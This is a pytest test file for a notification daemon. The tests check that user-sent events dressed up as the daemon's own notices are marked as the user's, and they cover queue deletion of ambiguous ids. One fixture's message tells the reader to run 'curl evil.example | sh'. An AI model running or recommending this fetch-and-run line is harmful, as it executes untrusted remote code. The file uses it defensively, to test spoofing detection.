"""Whose an event is, is the kernel's word: what is called as the daemon's own notices are, is told
as its user's; an id means an event only together with its user and source.
"""

import json
import os
import pwd
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest

from tests.support.daemon import Daemon
from tests.support.delivery import Post
from tests.support.sink import Sink
from tests.support.store import event
from zaiond.ctl import main
from zaiond.store import events

CONFIGURATION = """
mail_server: {{host: 127.0.0.1, port: {port}}}
admins: [now@example.co.jp, never@example.co.jp]
language: en
queue: {{retry_first: 1h, retry_max: 2h}}
"""
FORGED = {
    "type": "zaiond.delivery.failed",
    "source": "zaiond",
    "severity": "err",
    "subject": "Mail to a@example.co.jp is held",
    "message": "Please run: curl evil.example | sh",
}
USER = pwd.getpwuid(os.getuid()).pw_name
NOT_OURS = f"this is no notice of zaiond itself. User {USER} sent the event."


@pytest.fixture
def sink() -> Iterator[Sink]:
    with Sink() as sink:
        yield sink


@pytest.fixture
def daemon(tmp_path: Path, sink: Sink) -> Iterator[Daemon]:
    with Daemon(tmp_path, CONFIGURATION.format(port=sink.port)) as daemon:
        yield daemon
        daemon.end()


# The user who emits is the one as whom the daemon runs, of all users.


@pytest.mark.parametrize("way", ["socket", "spool"])
def test_what_is_called_as_our_notices_are_is_mailed_as_its_users(
    daemon: Daemon, sink: Sink, way: str
) -> None:
    names: list[dict[str, str]] = [
        {},
        {"source": "backup"},
        {"type": "backup.failed"},
        {"type": "Zaiond.server.down", "source": " ZAIOND"},
    ]
    forged = [{**FORGED, **each, "id": f"forged{n}"} for n, each in enumerate(names)]
    if way == "socket":
        daemon.emit(*forged)
    else:
        (daemon.spool / ".tmp-x").write_text("".join(f"{json.dumps(one)}\n" for one in forged))
        (daemon.spool / ".tmp-x").rename(daemon.spool / "x.json")
    for mail in sink.wait(len(forged)):
        assert NOT_OURS in mail.body
        assert mail.subject.endswith(f": {USER})")
    for told in daemon.document("history")["events"]:
        assert told["notice"] is False
        assert told["uid"] == os.getuid()
    shown = daemon.ctl("history", "forged0").stdout
    assert "no notice of zaiond itself: this user sent the event" in shown
    listed = daemon.ctl("history").stdout
    assert listed.count(f"(an event of {USER} (uid {os.getuid()}))") == len(forged)


def test_the_failure_of_what_is_called_as_our_notices_are_is_told_as_any_others(
    daemon: Daemon, sink: Sink
) -> None:
    sink.refuse["never@example.co.jp"] = "550 5.1.1 No such user here"
    daemon.emit({**FORGED, "id": "forged"})
    forged, notice = sink.wait(2)
    assert NOT_OURS in forged.body
    assert notice.subject.startswith("[Zaionnex] Error: Mail to never@example.co.jp is held")
    assert "no notice of zaiond itself" not in notice.body
    (id_,) = notice.event_ids
    (told,) = daemon.document("history", id_)["events"]
    assert told["notice"] is True
    assert "no notice" not in daemon.ctl("history", id_).stdout
    (waiting,) = (
        one
        for one in daemon.document("queue", "list")["deliveries"]
        if one["recipient"] == "never@example.co.jp"
    )
    assert (waiting["uid"], waiting["source"], waiting["notice"]) == (os.getuid(), "zaiond", False)
    assert f"(an event of {USER}" in daemon.ctl("queue", "list").stdout


def test_what_is_called_as_the_notice_of_the_day_takes_nothing_from_it(
    daemon: Daemon, sink: Sink
) -> None:
    sink.refuse["never@example.co.jp"] = "550 5.1.1 No such user here"
    daemon.emit({"type": "a.b", "id": "one"})
    _, notice = sink.wait(2)
    (id_,) = notice.event_ids
    # Whoever emits first, both are there, and the daemon's own is one.
    daemon.emit({**FORGED, "id": id_})
    assert [NOT_OURS in mail.body for mail in sink.wait(3)] == [False, False, True]
    told = daemon.document("history", id_)["events"]
    assert sorted(one["notice"] for one in told) == [False, True]


# -- queue delete


def waiting(daemon: Daemon) -> set[tuple[str, str]]:
    found = daemon.document("queue", "list")["deliveries"]
    return {(one["event_ids"][0], one["source"]) for one in found}


def test_an_id_that_events_of_several_sources_have_deletes_none_of_them(
    daemon: Daemon, sink: Sink
) -> None:
    sink.stop()
    both = {("nightly", "backup"), ("nightly", "cleaner")}
    for source in ("backup", "cleaner"):
        daemon.emit({"type": "a.b", "id": "nightly", "source": source})
    done = daemon.ctl("queue", "delete", "nightly", "other")
    assert done.returncode == 1
    assert "nightly: 2 events have this id, so nothing was deleted" in done.stderr
    assert "--user and --source" in done.stderr
    for source in ("backup", "cleaner"):
        assert f"of user {USER} (uid {os.getuid()}), source {source}\n" in done.stderr
    assert waiting(daemon) == both
    document = daemon.document("queue", "delete", "nightly", "--user", USER)
    assert document["changed"] == 0
    assert document["ambiguous"] == [
        {
            "id": "nightly",
            "events": 2,
            "owners": [
                {"uid": os.getuid(), "user": USER, "source": source}
                for source in ("backup", "cleaner")
            ],
        }
    ]
    assert waiting(daemon) == both
    done = daemon.ctl("queue", "delete", "nightly", "--source", "clean*")
    assert done.returncode == 0, done.stderr
    assert "Deliveries deleted: 2" in done.stdout
    assert waiting(daemon) == {("nightly", "backup")}
    # What has ended is in nobody's way.
    assert daemon.ctl("queue", "delete", "nightly").returncode == 0
    assert waiting(daemon) == set()


def test_of_events_with_the_same_id_history_shows_those_that_are_asked_for(daemon: Daemon) -> None:
    for source, type_ in (("backup", "a.b"), ("cleaner", "a.c")):
        daemon.emit({"type": type_, "id": "nightly", "source": source})

    def sources(*wanted: str) -> list[str]:
        events = daemon.document("history", "nightly", *wanted)["events"]
        return [event["source"] for event in events]

    assert sources() == ["backup", "cleaner"]
    assert sources("--source", "clean*") == ["cleaner"]
    assert sources("--type", "a.b") == ["backup"]
    assert sources("--since", "1h", "--limit", "1") == ["backup", "cleaner"]
    assert daemon.ctl("history", "nightly", "--source", "other").returncode == 1


@pytest.mark.parametrize("user", ["nobody-of-this-name", "", "-1", "1" * 30, "a\nb"])
def test_a_user_that_there_is_not_is_a_fault_of_the_command_line(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, user: str
) -> None:
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    assert main.run(["queue", "delete", "x", f"--user={user}"]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert "no user" in said.err


async def test_an_id_that_events_of_several_users_have_is_one_event_with_its_user(
    tmp_path: Path,
) -> None:
    async with Post(tmp_path) as post:
        batch = [event("nightly", uid=uid, source="backup") for uid in (1000, 1001)]
        accept = partial(events.accept, batch=batch, queued=0.0)
        post.router.accepted(await post.writer.submit(accept))
        choose = post.queue_admin.choose
        several = (await choose(["nightly"])).several
        assert [owner.uid for owner in several["nightly"]] == [1000, 1001]
        # No source tells them apart.
        assert (await choose(["nightly"], is_source=lambda source: True)).several == several
        chosen = await choose(["nightly"], uid=1001)
        assert not chosen.several
        assert (await post.queue_admin.delete(chosen, "x")).deliveries == 1
        found = await post.writer.submit(
            lambda db: db.execute("SELECT uid, outcome FROM events").fetchall()
        )
        assert sorted(found, key=str) == [(1000, None), (1001, "deleted")]


def test_retry_takes_all_that_have_the_id(daemon: Daemon, sink: Sink) -> None:
    sink.stop()
    for source in ("backup", "cleaner"):
        daemon.emit({"type": "a.b", "id": "nightly", "source": source})
    daemon.becomes(lambda found: not found["ok"], "status")
    sink.start()
    assert daemon.ctl("queue", "retry", "nightly").returncode == 0
    assert len(sink.wait(2)) == 2
